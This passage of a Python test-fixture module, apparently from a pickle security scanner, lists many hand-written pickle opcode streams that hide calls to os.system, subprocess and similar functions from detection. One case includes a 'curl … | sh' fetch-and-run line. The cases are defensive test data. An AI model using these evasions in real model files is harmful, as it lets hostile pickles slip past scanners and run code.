"""Pickle streams that hide what they do, as assembly; nothing ever loads them.

A table per family, and in it a case per way of hiding.  Each must be judged ``unsafe``;
the families in ``REVIEW`` do nothing by themselves.  The payloads are ``true`` and
``echo``.  To add a case, add a row.
"""
# ruff: noqa: E501, RUF001, S108 (a case is a line; odd letters and paths are the point)

from __future__ import annotations

from typing import Final

SYSTEM: Final = "GLOBAL 'os system'\n"
GIVEN: Final = "BINUNICODE 'true'\nTUPLE1\n"
CALL: Final = f"{SYSTEM}{GIVEN}REDUCE\n"
OS: Final = "GLOBAL 'builtins __import__'\nBINUNICODE 'os'\nTUPLE1\nREDUCE\n"
ALIAS: Final = (
    "SHORT_BINUNICODE 'torch.serialization'\nSHORT_BINUNICODE 'os'\nSTACK_GLOBAL\n"
)
"""The module ``os``, named through a module that models may well name."""
EMPTY: Final = "GLOBAL 'collections OrderedDict'\nEMPTY_TUPLE\nREDUCE\n"


def named(module: str, name: str) -> str:
    """Name something in the way of protocol 4."""
    return f"SHORT_BINUNICODE {module!r}\nSHORT_BINUNICODE {name!r}\nSTACK_GLOBAL\n"


def called(module: str, name: str, *arguments: str) -> str:
    """Call something with text."""
    given = "".join(f"BINUNICODE {argument!r}\n" for argument in arguments)
    return f"{named(module, name)}MARK\n{given}TUPLE\nREDUCE\n"


def raw(data: bytes) -> str:
    """Put bytes there that are no opcode."""
    return f"RAW {data!r}\n"


FORGETTING: Final = raw(b"N\x850" * 100_000)
"""Tuples that nobody needs, but that a reader may remember."""
JUNK: Final = raw(b"\x00\x01\x02\xff" * 9)


PROTOCOLS: Final = {
    "protocol 0": "GLOBAL 'posix system'\nMARK\nUNICODE 'true'\nTUPLE\nREDUCE\nSTOP",
    "protocol 0 with STRING": (
        "GLOBAL 'os system'\nMARK\nSTRING 'true'\nTUPLE\nPUT 0\nREDUCE\nSTOP"
    ),
    "protocol 1": "GLOBAL 'os system'\nMARK\nBINSTRING b'true'\nTUPLE\nREDUCE\nSTOP",
    "protocol 2": f"PROTO 2\n{CALL}STOP",
    "protocol 3": f"PROTO 3\n{CALL}STOP",
    "protocol 4": f"PROTO 4\nFRAME 40\n{called('os', 'system', 'true')}STOP",
    "protocol 5": f"PROTO 5\n{called('os', 'system', 'true')}STOP",
    "no protocol, names on the stack": f"{called('os', 'system', 'true')}STOP",
    "protocol stated twice": f"PROTO 2\nPROTO 4\n{CALL}STOP",
    "protocol stated late": f"{CALL}PROTO 4\nSTOP",
    "frame too short": f"PROTO 4\nFRAME 1\n{CALL}STOP",
    "frame too long": f"PROTO 4\nFRAME 99999\n{CALL}STOP",
    "frame of no length": f"PROTO 4\nFRAME 0\n{CALL}STOP",
    "frame of 2^63": f"PROTO 4\nFRAME {2**63}\n{CALL}STOP",
    "frame in the middle": f"PROTO 4\n{SYSTEM}FRAME 3\n{GIVEN}REDUCE\nSTOP",
    "frame in a stream of protocol 2": f"PROTO 2\nFRAME 20\n{CALL}STOP",
}

STREAMS: Final = {
    "result thrown away": f"PROTO 2\n{CALL}POP\nNONE\nSTOP",
    "result thrown away with its mark": f"PROTO 2\nMARK\n{CALL}POP_MARK\nNONE\nSTOP",
    "result built upon": f"PROTO 2\n{CALL}EMPTY_DICT\nBUILD\nSTOP",
    "result in a list": f"PROTO 2\nEMPTY_LIST\n{CALL}APPEND\nSTOP",
    "bad opcode after it": f"PROTO 2\n{CALL}RAW b'\\xff'\nSTOP",
    "no STOP": f"PROTO 2\n{CALL}",
    "no STOP and no protocol": CALL,
    "stack underflow after it": f"PROTO 2\n{CALL}POP\nPOP\nSTOP",
    "string over the end after it": f"PROTO 2\n{CALL}RAW b'X\\xff\\xff\\xff\\x7f'",
    "string of 2^63 bytes after it": f"PROTO 4\n{CALL}RAW b'\\x8d\\0\\0\\0\\0\\0\\0\\0\\x80'",
    "string of 2^62 bytes after it": f"PROTO 4\n{CALL}RAW b'\\x8e\\0\\0\\0\\0\\0\\0\\0\\x40'",
    "negative length after it": f"PROTO 2\n{CALL}RAW b'T\\xff\\xff\\xff\\xff'",
    "unknown protocol after it": f"PROTO 2\n{CALL}PROTO 77\nSTOP",
    "bad number after it": f"{CALL}RAW b'Iabc\\n'\nSTOP",
    "bad memo after it": f"{CALL}GET 99\nSTOP",
    "second stream": f"PROTO 2\nNONE\nSTOP\nPROTO 2\n{CALL}STOP",
    "second stream without protocol": f"PROTO 2\nNONE\nSTOP\n{CALL}STOP",
    "second of two streams of protocol 0": f"NONE\nSTOP\n{CALL}STOP",
    "last of 200 streams": "PROTO 2\nBININT1 1\nSTOP\n" * 199 + f"PROTO 2\n{CALL}STOP",
    "first of 200 streams": f"PROTO 2\n{CALL}STOP\n"
    + "PROTO 2\nBININT1 1\nSTOP\n" * 199,
    "behind padding": f"PROTO 2\nNONE\nSTOP\n{raw(bytes(3000))}PROTO 2\n{CALL}STOP",
    "behind long padding": f"PROTO 2\nNONE\nSTOP\n{raw(bytes(9000))}PROTO 2\n{CALL}STOP",
    "behind junk": f"{JUNK}PROTO 2\n{CALL}STOP",
    "behind junk, without protocol": f"{JUNK}{CALL}STOP",
    "behind junk, with names on the stack": (
        f"{JUNK}{called('os', 'system', 'true')}STOP"
    ),
    "behind junk, an instance": (f"{JUNK}MARK\nSTRING 'true'\nINST 'os system'\nSTOP"),
    "behind junk between streams": (
        f"PROTO 2\nNONE\nSTOP\n{raw(bytes([255, 254]) * 99)}PROTO 2\n{CALL}STOP"
    ),
    "behind a stream that is damaged": (
        f"PROTO 2\nNONE\nRAW b'\\xff\\xff'\nPROTO 2\n{CALL}STOP"
    ),
    "behind a 2 MB string": f"PROTO 3\n{raw(b'B' + bytes([0, 0, 32, 0]) + bytes(2 << 20))}POP\n{CALL}STOP",
    "behind 100,000 opcodes": f"PROTO 2\n{raw(b'N0' * 50_000)}{CALL}STOP",
    "shared list of 40 levels": (
        "PROTO 2\nEMPTY_LIST\nBINPUT 0\nPOP\n"
        + "".join(
            f"EMPTY_LIST\nBINPUT {n + 1}\nBINGET {n}\nAPPEND\nBINGET {n}\nAPPEND\nPOP\n"
            for n in range(40)
        )
        + f"{CALL}STOP"
    ),
    "shared arguments of 40 levels": (
        "PROTO 2\nNONE\nBINPUT 0\nPOP\n"
        + "".join(f"BINGET {n}\nDUP\nTUPLE2\nBINPUT {n + 1}\nPOP\n" for n in range(40))
        + f"{SYSTEM}BINGET 40\nTUPLE1\nREDUCE\nSTOP"
    ),
    "nested 5,000 deep": f"PROTO 2\n{'EMPTY_LIST' + chr(10)}" * 5000 + f"{CALL}STOP",
    "inside 5,000 tuples": f"{CALL}" + "TUPLE1\n" * 5000 + "STOP",
    "marks left over": f"PROTO 2\nMARK\nMARK\n{CALL}STOP",
}

NAMES: Final = {
    "python 2 builtins": "GLOBAL '__builtin__ eval'\nSTRING 'true'\nTUPLE1\nREDUCE\nSTOP",
    "python 2 commands": "GLOBAL 'commands getoutput'\nSTRING 'true'\nTUPLE1\nREDUCE\nSTOP",
    "python 2 execfile": "GLOBAL '__builtin__ execfile'\nSTRING 'true'\nTUPLE1\nREDUCE\nSTOP",
    "python 2 apply": f"GLOBAL '__builtin__ apply'\n{SYSTEM}{GIVEN}TUPLE2\nREDUCE\nSTOP",
    "python 2 cPickle": "GLOBAL 'cPickle load'\nSTRING 'x'\nTUPLE1\nREDUCE\nSTOP",
    "nt": "GLOBAL 'nt system'\nSTRING 'true'\nTUPLE1\nREDUCE\nSTOP",
    "dotted": called("os", "path.os.system", "true") + "STOP",
    "alias logging": called("logging", "os.system", "true") + "STOP",
    "alias posixpath": called("posixpath", "os.system", "true") + "STOP",
    "alias zipfile": called("zipfile", "shutil.os.system", "true") + "STOP",
    "alias of a library": called("torch.serialization", "os.system", "true") + "STOP",
    "alias builtins": called("sklearn.base", "inspect.builtins.eval", "1") + "STOP",
    "alias subprocess": called("numpy.f2py", "subprocess.run", "true") + "STOP",
    "tail __call__": called("os", "system.__call__", "true") + "STOP",
    "tail __call__ three times": (
        called("joblib", "load.__call__.__call__.__call__", "x") + "STOP"
    ),
    "tails of two kinds": called("torch.hub", "load.__call__.__func__", "x") + "STOP",
    "tail __init__": called("torch.utils.benchmark", "Timer.__init__", "1") + "STOP",
    "tail __get__": called("joblib", "load.__get__", "x") + "STOP",
    "module of a function": (
        called("torch.serialization", "os.system.__self__.system", "true") + "STOP"
    ),
    "builtins of a harmless function": (
        called("builtins", "print.__self__.eval", "1") + "STOP"
    ),
    "builtins of a library's function": (
        called("torch._utils", "_rebuild_tensor.__globals__.get", "os") + "STOP"
    ),
    "imported by name elsewhere": (
        called("torch.utils.cpp_extension", "subprocess.check_output", "true") + "STOP"
    ),
    "only named": f"PROTO 2\n{SYSTEM}STOP",
    "only named, in a list": f"PROTO 2\nEMPTY_LIST\n{SYSTEM}APPEND\nSTOP",
    "name decoded from bytes": (
        f"PROTO 4\n{named('builtins', 'str')}SHORT_BINBYTES b'os'\n"
        "SHORT_BINUNICODE 'ascii'\nTUPLE2\nREDUCE\nSHORT_BINUNICODE 'system'\n"
        f"STACK_GLOBAL\n{GIVEN}REDUCE\nSTOP"
    ),
    "name decoded with rot13": (
        f"PROTO 4\n{called('_codecs', 'decode', 'bf', 'rot13')}"
        f"SHORT_BINUNICODE 'system'\nSTACK_GLOBAL\n{GIVEN}REDUCE\nSTOP"
    ),
    "name joined from parts": (
        f"PROTO 4\nSHORT_BINUNICODE 'os'\n{called('_operator', 'add', 'sys', 'tem')}"
        f"STACK_GLOBAL\n{GIVEN}REDUCE\nSTOP"
    ),
    "name from a format": (
        f"PROTO 4\nSHORT_BINUNICODE 'os'\n{called('builtins', 'str.format', '{}', 'system')}"
        f"STACK_GLOBAL\n{GIVEN}REDUCE\nSTOP"
    ),
    "name from a persistent id": (
        f"PROTO 4\nPERSID 'x'\nSHORT_BINUNICODE 'system'\nSTACK_GLOBAL\n{GIVEN}REDUCE\nSTOP"
    ),
    "name through the memo": (
        "PROTO 4\nSHORT_BINUNICODE 'system'\nMEMOIZE\nPOP\nSHORT_BINUNICODE 'os'\n"
        f"MEMOIZE\nBINGET 0\nSTACK_GLOBAL\n{GIVEN}REDUCE\nSTOP"
    ),
    "name through an overwritten memo": (
        "PROTO 4\nSHORT_BINUNICODE 'collections'\nBINPUT 0\nPOP\n"
        "SHORT_BINUNICODE 'os'\nBINPUT 0\nPOP\nBINGET 0\nSHORT_BINUNICODE 'system'\n"
        f"STACK_GLOBAL\n{GIVEN}REDUCE\nSTOP"
    ),
    "name through a huge memo index": (
        "PROTO 4\nSHORT_BINUNICODE 'os'\nLONG_BINPUT 4294967295\nPOP\n"
        "SHORT_BINUNICODE 'x'\nMEMOIZE\nPOP\nLONG_BINGET 4294967295\n"
        f"SHORT_BINUNICODE 'system'\nSTACK_GLOBAL\n{GIVEN}REDUCE\nSTOP"
    ),
    "name through a text memo": (
        "PROTO 4\nSHORT_BINUNICODE 'os'\nRAW b'p000000000000000000000000007\\n'\nPOP\n"
        f"RAW b'g 7 \\n'\nSHORT_BINUNICODE 'system'\nSTACK_GLOBAL\n{GIVEN}REDUCE\nSTOP"
    ),
    "name through a memo index of 2^70": (
        f"PROTO 4\nSHORT_BINUNICODE 'os'\nBINPUT 300\nMEMOIZE\nPOP\nBINGET 1\n"
        f"SHORT_BINUNICODE 'system'\nSTACK_GLOBAL\n{GIVEN}REDUCE\nSTOP"
    ).replace("BINPUT 300", "PUT 300"),
    "MEMOIZE counts what is in the memo": (
        "PROTO 4\nSHORT_BINUNICODE 'collections'\nBINPUT 5\nPOP\nSHORT_BINUNICODE 'os'\n"
        "MEMOIZE\nPOP\nBINGET 1\nSHORT_BINUNICODE 'system'\n"
        f"STACK_GLOBAL\n{GIVEN}REDUCE\nSTOP"
    ),
    "callee through the memo": f"PROTO 2\n{SYSTEM}BINPUT 1\nPOP\nBINGET 1\n{GIVEN}REDUCE\nSTOP",
    "names copied": (
        "PROTO 4\nSHORT_BINUNICODE 'os'\nDUP\nPOP\nSHORT_BINUNICODE 'system'\n"
        f"STACK_GLOBAL\n{GIVEN}REDUCE\nSTOP"
    ),
    "names between discarded ones": (
        "PROTO 4\nSHORT_BINUNICODE 'os'\nMARK\nSHORT_BINUNICODE 'collections'\nPOP_MARK\n"
        "SHORT_BINUNICODE 'system'\nSHORT_BINUNICODE 'OrderedDict'\nPOP\n"
        f"STACK_GLOBAL\n{GIVEN}REDUCE\nSTOP"
    ),
    "names as escaped text": (
        r"RAW b'V\\u006f\\u0073\nV\\u0073ystem\n'"
        f"\nSTACK_GLOBAL\n{GIVEN}REDUCE\nSTOP"
    ),
    "names as escaped strings": (
        r"""RAW b"S'\\x6f\\x73'\nS'\\163ystem'\n" """
        f"\nSTACK_GLOBAL\n{GIVEN}REDUCE\nSTOP"
    ),
    "names in BINUNICODE8": (
        f"BINUNICODE8 'os'\nBINUNICODE8 'system'\nSTACK_GLOBAL\n{GIVEN}REDUCE\nSTOP"
    ),
    "names in BINSTRING": (
        f"BINSTRING b'os'\nSHORT_BINSTRING b'system'\nSTACK_GLOBAL\n{GIVEN}REDUCE\nSTOP"
    ),
    "names of mixed opcodes": (
        f"UNICODE 'os'\nSHORT_BINSTRING b'system'\nSTACK_GLOBAL\n{GIVEN}REDUCE\nSTOP"
    ),
    "names frozen apart by a frame": (
        "PROTO 4\nSHORT_BINUNICODE 'os'\nFRAME 9\nSHORT_BINUNICODE 'system'\nPROTO 4\n"
        f"STACK_GLOBAL\n{GIVEN}REDUCE\nSTOP"
    ),
    "very long name": (
        called("builtins", "print.__self__." * 9000 + "eval", "1").replace(
            "SHORT_BINUNICODE 'print", "BINUNICODE 'print"
        )
        + "STOP"
    ),
    "blank behind the name": called("os", "system ", "true") + "STOP",
    "full-width letters": called("os", "ｓystem", "true") + "STOP",
    "private module": called("_posixsubprocess", "fork_exec", "true") + "STOP",
    "unlisted function of the standard library": called("sndhdr", "what", "x") + "STOP",
    "unlisted function with a shell line": (
        called("mine.tools", "run", "curl http://127.0.0.1/x | sh") + "STOP"
    ),
    "unlisted class with code": (
        called("mine.tools", "Runner", "import os; os.system('true')") + "STOP"
    ),
    "unlisted class of the standard library with a path": (
        called("audiodev", "Audio", "/tmp/x").replace("audiodev", "mailbox") + "STOP"
    ),
}

CALLS: Final = {
    "REDUCE": f"PROTO 2\n{CALL}STOP",
    "INST": "MARK\nSTRING 'true'\nINST 'os system'\nSTOP",
    "OBJ": f"MARK\n{SYSTEM}STRING 'true'\nOBJ\nSTOP",
    "OBJ and POP": f"MARK\n{SYSTEM}STRING 'true'\nOBJ\nPOP\nNONE\nSTOP",
    "OBJ without arguments": "MARK\nGLOBAL 'pdb set_trace'\nOBJ\nSTOP",
    "NEWOBJ": "PROTO 2\nGLOBAL 'subprocess Popen'\nSTRING 'true'\nTUPLE1\nNEWOBJ\nSTOP",
    "NEWOBJ_EX": (
        "PROTO 4\nGLOBAL 'subprocess Popen'\nEMPTY_TUPLE\nEMPTY_DICT\n"
        "SHORT_BINUNICODE 'args'\nSHORT_BINUNICODE 'true'\nSETITEM\nNEWOBJ_EX\nSTOP"
    ),
    "EXT1": f"PROTO 2\nEXT1 7\n{GIVEN}REDUCE\nSTOP",
    "EXT2": f"PROTO 2\nEXT2 700\n{GIVEN}REDUCE\nSTOP",
    "EXT4": f"PROTO 2\nEXT4 70000\n{GIVEN}REDUCE\nSTOP",
    "EXT in OBJ": "PROTO 2\nMARK\nEXT1 7\nSTRING 'true'\nOBJ\nSTOP",
    "result of an unlisted call, called": (
        f"PROTO 2\nGLOBAL 'mine.tools get'\n{GIVEN}REDUCE\n{GIVEN}REDUCE\nSTOP"
    ),
    "persistent object, called": f"PROTO 2\nPERSID 'x'\n{GIVEN}REDUCE\nSTOP",
    "state setter planted": (
        f"PROTO 2\n{EMPTY}EMPTY_DICT\nBINUNICODE '__setstate__'\n{SYSTEM}SETITEM\nBUILD\n"
        "BINUNICODE 'true'\nBUILD\nSTOP"
    ),
    "state setter planted, its name in bytes": (
        f"PROTO 4\n{EMPTY}EMPTY_DICT\n{named('builtins', 'str')}"
        "SHORT_BINBYTES b'__setstate__'\nSHORT_BINUNICODE 'ascii'\nTUPLE2\nREDUCE\n"
        f"GLOBAL 'mine.tools run'\nSETITEM\nBUILD\nBINUNICODE 'true'\nBUILD\nSTOP"
    ),
    "state setter planted, in a dict that is called": (
        f"PROTO 4\n{EMPTY}{named('builtins', 'dict')}EMPTY_LIST\n"
        "BINUNICODE '__setstate__'\nGLOBAL 'mine.tools run'\nTUPLE2\nAPPEND\nTUPLE1\n"
        "REDUCE\nBUILD\nBINUNICODE 'true'\nBUILD\nSTOP"
    ),
    "state setter planted, in an ordered dict": (
        f"PROTO 4\n{EMPTY}{EMPTY}BINUNICODE '__setstate__'\nGLOBAL 'mine.tools run'\n"
        "SETITEM\nBUILD\nBINUNICODE 'true'\nBUILD\nSTOP"
    ),
    "state setter planted, escaped": (
        f"PROTO 2\n{EMPTY}EMPTY_DICT\n"
        r"RAW b'V\\u005f_setstate__\n'"
        "\nGLOBAL 'mine.tools run'\nSETITEM\nBUILD\nBINUNICODE 'true'\nBUILD\nSTOP"
    ),
    "state setter planted, in BINUNICODE8": (
        f"PROTO 4\n{EMPTY}EMPTY_DICT\nBINUNICODE8 '__setstate__'\n"
        "GLOBAL 'mine.tools run'\nSETITEM\nBUILD\nBINUNICODE 'true'\nBUILD\nSTOP"
    ),
    "state setter planted, through the memo": (
        f"PROTO 2\nBINUNICODE '__setstate__'\nBINPUT 3\nPOP\n{EMPTY}EMPTY_DICT\nBINGET 3\n"
        "GLOBAL 'mine.tools run'\nSETITEM\nBUILD\nBINUNICODE 'true'\nBUILD\nSTOP"
    ),
    "state setter planted, dict from DICT": (
        f"PROTO 2\n{EMPTY}MARK\nBINUNICODE '__setstate__'\nGLOBAL 'mine.tools run'\nDICT\n"
        "BUILD\nBINUNICODE 'true'\nBUILD\nSTOP"
    ),
    "state setter planted, by slots": (
        f"PROTO 2\n{EMPTY}NONE\nEMPTY_DICT\nBINUNICODE '__setstate__'\n"
        "GLOBAL 'mine.tools run'\nSETITEM\nTUPLE2\nBUILD\nSTOP"
    ),
    "state setter planted, before the dict is filled": (
        f"PROTO 2\n{EMPTY}EMPTY_DICT\nBINPUT 5\nNONE\nPOP\nBINGET 5\n"
        "BINUNICODE '__setstate__'\nGLOBAL 'mine.tools run'\nSETITEM\nPOP\nBINGET 5\n"
        "BUILD\nSTOP"
    ),
    "state setter planted, behind 2,000 keys": (
        f"PROTO 2\n{EMPTY}EMPTY_DICT\nMARK\n"
        + "".join(f"BINUNICODE 'k{n}'\nNONE\n" for n in range(2000))
        + "BINUNICODE '__setstate__'\nGLOBAL 'mine.tools run'\nSETITEMS\nBUILD\nSTOP"
    ),
    "state setter planted, behind 2,000 keys of DICT": (
        f"PROTO 2\n{EMPTY}MARK\n"
        + "".join(f"BINUNICODE 'k{n}'\nNONE\n" for n in range(2000))
        + "BINUNICODE '__setstate__'\nGLOBAL 'mine.tools run'\nDICT\nBUILD\nSTOP"
    ),
    "state setter planted, and forgotten": (
        f"PROTO 2\n{EMPTY}EMPTY_DICT\nBINPUT 5\nBINUNICODE '__setstate__'\n"
        f"GLOBAL 'mine.tools run'\nSETITEM\nPOP\n{FORGETTING}BINGET 5\nBUILD\nSTOP"
    ),
    "attribute set by a function": (
        "PROTO 2\nGLOBAL 'builtins setattr'\nGLOBAL 'collections OrderedDict'\n"
        "BINUNICODE 'update'\nGLOBAL 'builtins print'\nTUPLE3\nREDUCE\nSTOP"
    ),
    "attribute set by dill": (
        "PROTO 2\nGLOBAL 'dill._dill _setattr'\nGLOBAL 'collections OrderedDict'\n"
        "BINUNICODE 'update'\nGLOBAL 'builtins print'\nTUPLE3\nREDUCE\nSTOP"
    ),
    "attribute set later": (
        "PROTO 2\nGLOBAL 'functools partial'\nGLOBAL 'builtins setattr'\n"
        "GLOBAL 'collections OrderedDict'\nBINUNICODE 'update'\nGLOBAL 'builtins print'\n"
        "MARK\nTUPLE\nPOP\nTUPLE3\nPOP\nTUPLE1\nREDUCE\nGLOBAL 'collections OrderedDict'\n"
        "BINUNICODE 'update'\nGLOBAL 'builtins print'\nTUPLE3\nREDUCE\nSTOP"
    ),
    "class changed": (
        f"PROTO 2\n{EMPTY}EMPTY_DICT\nBINUNICODE '__class__'\nGLOBAL 'mine.models Net'\n"
        "SETITEM\nBUILD\nSTOP"
    ),
    "attribute of a class set by slots": (
        "PROTO 2\nGLOBAL 'collections OrderedDict'\nNONE\nEMPTY_DICT\n"
        "BINUNICODE 'update'\nGLOBAL 'mine.tools run'\nSETITEM\nTUPLE2\nBUILD\nSTOP"
    ),
    "attribute of a module set": (
        f"PROTO 2\n{ALIAS}EMPTY_DICT\nBINUNICODE 'system'\nGLOBAL 'mine.tools run'\nSETITEM\n"
        "BUILD\nSTOP"
    ),
    "attribute of an imported module set": (
        f"PROTO 2\n{OS}NONE\nEMPTY_DICT\nBINUNICODE 'getpid'\nGLOBAL 'mine.tools run'\n"
        "SETITEM\nTUPLE2\nBUILD\nSTOP"
    ),
    "item of sys.modules set": (
        "PROTO 2\nGLOBAL 'sys modules'\nBINUNICODE 'json'\nGLOBAL 'mine tools'\nSETITEM\nSTOP"
    ),
    "items of sys.modules set": (
        "PROTO 2\nGLOBAL 'sys modules'\nMARK\nBINUNICODE 'json'\nGLOBAL 'mine tools'\n"
        "SETITEMS\nSTOP"
    ),
    "item of a table of copyreg set": (
        "PROTO 2\nGLOBAL 'copyreg dispatch_table'\nGLOBAL 'mine.models Net'\n"
        "GLOBAL 'mine.tools run'\nSETITEM\nSTOP"
    ),
    "path appended": "PROTO 2\nGLOBAL 'sys path'\nBINUNICODE '/tmp'\nAPPEND\nSTOP",
    "item of a library's table set": (
        "PROTO 2\nGLOBAL 'torch.serialization _package_registry'\nBINUNICODE 'x'\n"
        "APPEND\nSTOP"
    ),
    "environment set": (
        "PROTO 2\nGLOBAL 'os environ'\nBINUNICODE 'PATH'\nBINUNICODE '/tmp'\nSETITEM\nSTOP"
    ),
    "code object": (
        "PROTO 2\nGLOBAL 'types FunctionType'\nGLOBAL 'types CodeType'\nEMPTY_TUPLE\n"
        "REDUCE\nEMPTY_DICT\nTUPLE2\nREDUCE\nEMPTY_TUPLE\nREDUCE\nSTOP"
    ),
    "code from marshal": (
        "PROTO 3\nGLOBAL 'types FunctionType'\nGLOBAL 'marshal loads'\n"
        "SHORT_BINBYTES b'N'\nTUPLE1\nREDUCE\nEMPTY_DICT\nTUPLE2\nREDUCE\nEMPTY_TUPLE\n"
        "REDUCE\nSTOP"
    ),
    "subclasses of object": (
        "PROTO 4\n" + called("builtins", "object.__subclasses__") + "STOP"
    ),
    "subclasses looked up": (
        f"PROTO 4\n{named('builtins', 'getattr')}{named('builtins', 'object')}"
        "SHORT_BINUNICODE '__subclasses__'\nTUPLE2\nREDUCE\nEMPTY_TUPLE\nREDUCE\nSTOP"
    ),
    "reduce_ex of a harmless class": (
        f"PROTO 4\n{named('builtins', 'getattr')}{EMPTY}SHORT_BINUNICODE '__reduce_ex__'\n"
        "TUPLE2\nREDUCE\nBININT1 4\nTUPLE1\nREDUCE\nSTOP"
    ),
}

RESOLVERS: Final = {
    "getattr": (
        f"PROTO 2\nGLOBAL 'builtins getattr'\n{OS}BINUNICODE 'system'\nTUPLE2\nREDUCE\n"
        f"{GIVEN}REDUCE\nSTOP"
    ),
    "getattr on an alias": (
        f"PROTO 4\nGLOBAL 'builtins getattr'\n{ALIAS}BINUNICODE 'system'\nTUPLE2\nREDUCE\n"
        f"{GIVEN}REDUCE\nSTOP"
    ),
    "getattr on a copy": (
        f"PROTO 4\nGLOBAL 'builtins getattr'\nGLOBAL 'copy copy'\n{ALIAS}TUPLE1\nREDUCE\n"
        f"BINUNICODE 'system'\nTUPLE2\nREDUCE\n{GIVEN}REDUCE\nSTOP"
    ),
    "getattr in three steps": (
        f"PROTO 4\nGLOBAL 'builtins getattr'\nGLOBAL 'builtins getattr'\n"
        "GLOBAL 'torch.serialization torch'\nBINUNICODE 'os'\nTUPLE2\nREDUCE\n"
        f"BINUNICODE 'system'\nTUPLE2\nREDUCE\n{GIVEN}REDUCE\nSTOP"
    ),
    "getattr with a computed name": (
        f"PROTO 4\nGLOBAL 'builtins getattr'\n{ALIAS}{called('_operator', 'add', 'sys', 'tem')}"
        f"TUPLE2\nREDUCE\n{GIVEN}REDUCE\nSTOP"
    ),
    "attrgetter": (
        f"PROTO 2\nGLOBAL 'operator attrgetter'\nBINUNICODE 'system'\nTUPLE1\nREDUCE\n{OS}"
        f"TUPLE1\nREDUCE\n{GIVEN}REDUCE\nSTOP"
    ),
    "attrgetter on an alias": (
        f"PROTO 4\nGLOBAL 'operator attrgetter'\nBINUNICODE 'os.system'\nTUPLE1\nREDUCE\n"
        f"GLOBAL 'torch serialization'\nTUPLE1\nREDUCE\n{GIVEN}REDUCE\nSTOP"
    ),
    "attrgetter of internals, not used": (
        "PROTO 2\nGLOBAL 'operator attrgetter'\nBINUNICODE '__globals__'\nTUPLE1\nREDUCE\nSTOP"
    ),
    "methodcaller": (
        "PROTO 2\nGLOBAL 'operator methodcaller'\nBINUNICODE 'system'\nBINUNICODE 'true'\n"
        f"TUPLE2\nREDUCE\n{OS}TUPLE1\nREDUCE\nSTOP"
    ),
    "methodcaller on an alias": (
        "PROTO 4\nGLOBAL 'operator methodcaller'\nBINUNICODE 'system'\nBINUNICODE 'true'\n"
        f"TUPLE2\nREDUCE\n{ALIAS}TUPLE1\nREDUCE\nSTOP"
    ),
    "methodcaller behind a decoy": (
        "PROTO 4\nGLOBAL 'operator methodcaller'\nBINPUT 0\nPOP\n"
        f"{ALIAS}TUPLE1\nBINPUT 1\nPOP\n"
        "BINGET 0\nBINUNICODE 'nothing'\nTUPLE1\nREDUCE\nBINGET 1\nREDUCE\nPOP\n"
        "BINGET 0\nBINUNICODE 'system'\nBINUNICODE 'true'\nTUPLE2\nREDUCE\nBINGET 1\n"
        "REDUCE\nSTOP"
    ),
    "methodcaller behind 300 decoys": (
        "PROTO 4\nGLOBAL 'operator methodcaller'\nBINPUT 0\nPOP\n"
        f"{ALIAS}TUPLE1\nBINPUT 1\nPOP\n"
        + "BINGET 0\nBINUNICODE 'nothing'\nTUPLE1\nREDUCE\nBINGET 1\nREDUCE\nPOP\n"
        * 300
        + "BINGET 0\nBINUNICODE 'system'\nBINUNICODE 'true'\nTUPLE2\nREDUCE\nBINGET 1\n"
        "REDUCE\nSTOP"
    ),
    "import_module": (
        "PROTO 2\nGLOBAL 'builtins getattr'\nGLOBAL 'importlib import_module'\n"
        "BINUNICODE 'subprocess'\nTUPLE1\nREDUCE\nBINUNICODE 'run'\nTUPLE2\nREDUCE\n"
        f"{GIVEN}REDUCE\nSTOP"
    ),
    "resolve_name": (
        "PROTO 2\nGLOBAL 'pkgutil resolve_name'\nBINUNICODE 'os:system'\nTUPLE1\nREDUCE\n"
        f"{GIVEN}REDUCE\nSTOP"
    ),
    "pydoc locate": (
        "PROTO 2\nGLOBAL 'pydoc locate'\nBINUNICODE 'os.system'\nTUPLE1\nREDUCE\n"
        f"{GIVEN}REDUCE\nSTOP"
    ),
    "logging config": (
        "PROTO 2\nGLOBAL 'logging.config _resolve'\nBINUNICODE 'os.system'\nTUPLE1\nREDUCE\n"
        f"{GIVEN}REDUCE\nSTOP"
    ),
    "unittest importer": (
        "PROTO 2\nGLOBAL 'unittest.mock _importer'\nBINUNICODE 'os.system'\nTUPLE1\nREDUCE\n"
        f"{GIVEN}REDUCE\nSTOP"
    ),
    "ufunc reconstructor": (
        "PROTO 2\nGLOBAL 'numpy.core _ufunc_reconstruct'\nBINUNICODE 'os'\n"
        f"BINUNICODE 'system'\nTUPLE2\nREDUCE\n{GIVEN}REDUCE\nSTOP"
    ),
    "ufunc reconstructor, not called": (
        "PROTO 2\nGLOBAL 'numpy._core _ufunc_reconstruct'\nBINUNICODE 'os'\n"
        "BINUNICODE 'system'\nTUPLE2\nREDUCE\nSTOP"
    ),
    "enum of functions": (
        "PROTO 2\nGLOBAL 'functools partial'\nGLOBAL 'builtins getattr'\n"
        f"{OS}BINUNICODE 'system'\nTUPLE3\nREDUCE\nEMPTY_TUPLE\nREDUCE\n{GIVEN}REDUCE\nSTOP"
    ),
    "getitem of sys.modules": (
        "PROTO 2\nGLOBAL 'operator getitem'\nGLOBAL 'sys modules'\nBINUNICODE 'os'\nTUPLE2\n"
        "REDUCE\nSTOP"
    ),
    "getitem of globals": (
        "PROTO 4\nGLOBAL 'operator getitem'\n"
        + named("torch.serialization", "load.__globals__")
        + "BINUNICODE 'os'\nTUPLE2\nREDUCE\nSTOP"
    ),
    "dict of a module": (
        "PROTO 4\nGLOBAL 'operator getitem'\n"
        + named("torch.serialization", "os.__dict__")
        + f"BINUNICODE 'system'\nTUPLE2\nREDUCE\n{GIVEN}REDUCE\nSTOP"
    ),
    "entry point": (
        "PROTO 4\n"
        + called("importlib.metadata", "EntryPoint", "a", "os:system", "b")
        + "STOP"
    ),
    "hydra": called("hydra.utils", "get_method", "os.system") + "STOP",
    "transformers dynamic module": called(
        "transformers.dynamic_module_utils", "get_class_from_dynamic_module", "x", "y"
    )
    + "STOP",
    "dill attribute": (
        f"PROTO 4\n{named('dill._dill', '_get_attr')}"
        f"{called('dill._dill', '_import_module', 'os')}BINUNICODE 'system'\nTUPLE2\nREDUCE\n"
        f"{GIVEN}REDUCE\nSTOP"
    ),
    "cloudpickle import": (
        f"PROTO 4\n{named('builtins', 'getattr')}"
        f"{called('cloudpickle.cloudpickle', 'subimport', 'os')}BINUNICODE 'system'\nTUPLE2\n"
        f"REDUCE\n{GIVEN}REDUCE\nSTOP"
    ),
    "cloudpickle function, called": (
